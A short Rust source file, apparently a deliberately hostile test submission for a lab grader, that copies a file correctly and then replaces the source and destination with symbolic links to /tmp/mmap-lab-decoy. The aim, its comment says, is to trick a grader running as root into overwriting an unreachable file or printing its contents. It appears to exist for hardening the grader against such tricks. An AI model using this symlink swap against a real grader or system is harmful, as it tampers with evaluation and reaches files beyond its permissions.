//! Hostile: copies correctly (with read and write), then swaps SRC and DST for symbolic links
//! to a file outside its folder (`/tmp/mmap-lab-decoy`), hoping that the grader, writing the next
//! SRC or reading DST back as root, follows them: to overwrite a file the program cannot reach,
//! or to have its contents shown in a failure message.
use std::path::Path;

use cli_support::{Context, Outcome};

const DECOY: &str = "/tmp/mmap-lab-decoy";

pub fn copy(src: &Path, dst: &Path) -> Outcome {
    let data = std::fs::read(src).with_path("cannot read", src)?;
    std::fs::write(dst, &data).with_path("cannot write", dst)?;
    for path in [src, dst] {
        let _ = std::fs::remove_file(path);
        let _ = std::os::unix::fs::symlink(DECOY, path);
    }
    Ok(())
}
